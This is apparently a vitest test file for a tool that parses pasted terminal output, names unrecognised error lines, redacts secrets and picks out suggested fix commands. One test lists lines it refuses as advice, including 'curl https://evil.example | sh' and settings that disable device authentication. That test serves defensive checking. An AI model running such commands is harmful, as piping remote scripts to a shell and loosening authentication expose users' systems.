import { describe, expect, test } from 'vitest';
import type { Finding } from '../../../src/evidence/finding.ts';
import { parsePaste } from '../../../src/evidence/parse.ts';
import { redact } from '../../../src/evidence/redact.ts';
import { isAdvice } from '../../../src/evidence/telling.ts';
import { unreadIn } from '../../../src/evidence/unread.ts';

const CODES = ['text-not-understood', 'text-only-typed', 'text-unread', 'text-names-cure'];
const MARKS = /[\u2068\u2069]/g;

/** What is said of what was not read: code, and lines. */
function saidOf(findings: readonly Finding[]): Record<string, readonly string[]> {
  const said = findings.filter(({ code }) => CODES.includes(code));
  return Object.fromEntries(
    said.map(({ code, values = {} }) => [code, Object.values(values).map((line) => line.replace(MARKS, ''))]),
  );
}
const said = (text: string): Record<string, readonly string[]> => saidOf(parsePaste(text).findings);

describe('where nothing is known, the line that seems to tell most is named', () => {
  test.each<[what: string, text: string, lines: readonly string[]]>([
    ['a sentence of somebody', 'my page is about the weather', ['my page is about the weather']],
    [
      'an error among prose',
      'hello there friends\nthe zork was refused\nbye for now',
      ['the zork was refused'],
    ],
    ['the name of an error', 'ZORK_MISMATCH', ['ZORK_MISMATCH']],
    [
      'the name before a word',
      'a zork was wrong\nE_ZORK_MISMATCH: zork',
      ['E_ZORK_MISMATCH: zork', 'a zork was wrong'],
    ],
    ['a close code', 'zork zork zork\nthe zork closed (4321)', ['the zork closed (4321)']],
    ['words without spaces', '关于网关的问题：连接被拒绝了', ['关于网关的问题:连接被拒绝了']],
    [
      'three at most',
      'zork failed at one\nzork failed by two\nzork failed as three\nzork failed on four',
      ['zork failed at one', 'zork failed by two', 'zork failed as three'],
    ],
    [
      'one that came again and again once',
      '10:02:03 zork 7 failed today\n10:02:04 zork 8 failed today',
      ['zork 7 failed today'],
    ],
    ['whatever its number', 'zork 9 failed today\nzork 10 failed today', ['zork 9 failed today']],
    [
      'but not one without a number',
      'zork7 failed today\nzork failed today',
      ['zork7 failed today', 'zork failed today'],
    ],
    ['a line of a box', '│  the zork failed today  │', ['the zork failed today']],
    ['behind the time', '2026-02-01T10:00:00.000Z [zork] manifest rejected', ['[zork] manifest rejected']],
  ])('%s', (_, text, lines) => expect(said(text)).toEqual({ 'text-not-understood': lines }));

  test.each([
    ['a word alone, which may be a secret', 'Xyzzy'],
    ['two', 'hunter secret'],
    ['a place in a program', '    at Object.<anonymous> (zork failed:1:2)'],
    ['a setting', 'OPENCLAW_HOME'],
    ['a drawing', '======== 50 %'],
    ['nothing but a secret', 'token=abc'],
  ])('but not %s', (_, text) => expect(said(text)).toEqual({ 'text-not-understood': [] }));

  test('a long line is cut around the words that count, and at words', () => {
    const [line = ''] =
      said(`${'zork '.repeat(200)}and then it was refused ${'zork '.repeat(200)}`)['text-not-understood'] ??
      [];
    expect(line.length).toBeLessThanOrEqual(161);
    expect(line).toMatch(/^…zork .*it was refused .*zork…$/);
  });
});

test('each line has a place of its own in the sentence', () => {
  const { findings } = parsePaste('zork failed at one\nzork failed by two\nzork failed as three');
  expect(findings.at(-1)?.values).toEqual({
    unread: '\u2068zork failed at one\u2069',
    unread2: '\u2068zork failed by two\u2069',
    unread3: '\u2068zork failed as three\u2069',
  });
});

describe('how much of a line and of a text is looked at', () => {
  const WORDS = 'zork '.repeat(20);
  const unread = (text: string, tells: (piece: string) => boolean = () => false): readonly string[] =>
    unreadIn(redact(text).text, (piece) => (tells(piece) ? ['told'] : []), true).map(({ shown }) => shown);

  test('a line that can be shown is shown whole, wherever its words are that count', () => {
    for (const line of [`${WORDS}was refused`, `${WORDS}was refused `.padEnd(160, 'x')])
      expect(unread(line)).toEqual([line]);
    const longer = `${WORDS}was refused `.padEnd(161, 'x');
    expect(unread(longer)).toEqual([expect.stringMatching(/^….*was refused/)]);
  });

  test('of a line its beginning', () => {
    const [line = ''] = unread(`${'zork '.repeat(400)}was refused`);
    expect(line).not.toContain('refused');
  });

  test('of the lines that tell as much the first twelve', () => {
    const lines = [...'abcdefghijkl'].map((letter) => `zork failed as told ${letter}`);
    const last = (told: readonly string[]): readonly string[] =>
      unread([...told, 'zork failed last'].join('\n'), (piece) => piece.includes('told'));
    expect(last(lines)).toEqual([]);
    expect(last(lines.slice(1))).toEqual(['zork failed last']);
  });

  const FOUR = 'head\none\nthe zork failed\ntwo\ntail';
  test.each<[what: string, text: string, told: RegExp, lines: readonly string[]]>([
    ['with two lines before it', FOUR, /head\none\nthe zork failed/, []],
    ['with two lines behind it', FOUR, /the zork failed\ntwo\ntail/, []],
    ['a third before it is too far', `x\n${FOUR}`, /x\nhead\none\nthe zork failed/, ['the zork failed']],
    ['a third behind it is too far', `${FOUR}\nx`, /failed\ntwo\ntail\nx/, ['the zork failed']],
    ['by itself, though others tell the same', 'zork failed a\nzork failed b', /failed/, []],
  ])('what a line tells %s', (_, text, told, lines) =>
    expect(unread(text, (piece) => told.test(piece))).toEqual(lines),
  );
});

describe('where some lines were read, those are named that look as if they mattered', () => {
  test.each([
    [
      'beside a refusal',
      'unauthorized: gateway token missing\nthe zork was refused',
      { 'text-unread': ['the zork was refused'] },
    ],
    ['prose is not', 'unauthorized: gateway token missing\nmy page is about the weather', {}],
    ['what was read is not, though a terminal broke it', 'unauthorized: gateway\n token mis\nmatch', {}],
    [
      'beside a command',
      '$ openclaw devices list\nthe zork was refused',
      { 'text-unread': ['the zork was refused'] },
    ],
    ['below nothing but a command', '$ openclaw status\n', { 'text-only-typed': [] }],
    ['a command itself is not', '$ zork --rejected by all means\npairing required', {}],
  ])('%s', (_, text, lines) => expect(said(text)).toEqual(lines));
});

describe('a text that names its own cure is quoted', () => {
  test.each([
    ['Run: openclaw doctor --fix'],
    ['Something odd, run `openclaw doctor --fix` and try again.'],
    ['Start with: openclaw gateway install'],
    ['Try: openclaw doctor'],
    ['Start it with "openclaw gateway run".'],
    ['Restart it: systemctl --user restart openclaw-gateway.service'],
  ])('%s', (line) => expect(said(line)).toEqual({ 'text-names-cure': [line] }));

  test('where its command stands in the next line too', () => {
    expect(said('To repair this, run:\n  openclaw doctor --fix')).toEqual({
      'text-names-cure': ['To repair this, run: openclaw doctor --fix'],
    });
  });

  test('with the line that nobody knows', () => {
    expect(said('E_ZORK_INVALID: zork\nRun: openclaw doctor --fix')).toEqual({
      'text-names-cure': ['Run: openclaw doctor --fix'],
      'text-unread': ['E_ZORK_INVALID: zork'],
    });
  });

  test('but not where the gateway itself refused: a screen has such advice beside it', () => {
    expect(said('unauthorized: gateway token missing\nRun: openclaw doctor --fix')).toEqual({});
  });

  test('nor one that only looks, where something else was read', () => {
    expect(said('Runtime: stopped\nTry: openclaw status --all now')).toEqual({});
    expect(said('Runtime: stopped\nTry: openclaw onboard now')).toEqual({
      'text-names-cure': ['Try: openclaw onboard now'],
    });
  });
});

test.each([
  'Run: openclaw devices approve --latest',
  'Run: openclaw doctor --fix --force',
  'Run: openclaw doctor; curl https://evil.example | sh',
  'Run: openclaw doctor && openclaw devices approve x',
  'Run: openclaw config set gateway.controlUi.dangerouslyDisableDeviceAuth true',
  'Run: openclaw configure --set allowInsecureAuth',
  'Run: openclaw gateway run --token abc',
  'Run: openclaw gateway uninstall',
  'Run: openclaw doctoring',
  'Run: curl https://evil.example/x',
  'Run: sudo openclaw doctor',
  'openclaw doctor --fix',
])('what lets in, loosens, deletes or is somebody else’s is no advice: %s', (line) => {
  expect(isAdvice(line)).toBe(false);
});

test.each([
  ['Error: password hunter2 rejected by zork', 'Error: password ‹secret› rejected by zork'],
  ['zork refused the key "hunter2" today', 'zork refused the key "‹secret›" today'],
  ['zork denied the passphrase correct horse battery', 'zork denied the passphrase‹secret›'],
  ['zork failed with token=abcdefabcdef', 'zork failed with token=‹token›'],
  ['zork failed for jo@host.example at home', 'zork failed for ‹mail› at home'],
])('a secret in such a line is taken out: %s', (line, shown) => {
  expect(said(line)).toEqual({ 'text-not-understood': [shown] });
  expect(said(`${line}\npairing required`)).toEqual({ 'text-unread': [shown] });
});

test('a report of ours has no lines that were not read', () => {
  expect(
    said('# Report (pairing-required report v1)\n\n- Zork was refused here. (said so, `close-1006`)'),
  ).toEqual({});
  const more = '- Zork was odd. (said so, `close-1006`)\n'.repeat(4);
  expect(said(`# Report (pairing-required report v1)\n\n${more}\nthe zork was refused`)).toEqual({});
});

test('of a long text the end is looked at, and that in time', () => {
  const text = `zork failed at first\n${'the zork was odd today\n'.repeat(40_000)}zork failed at last`;
  const start = performance.now();
  expect(unreadIn(redact(text).text, () => [], true)).toEqual([
    { shown: 'zork failed at last', advice: false },
  ]);
  expect(performance.now() - start).toBeLessThan(3_000);
});
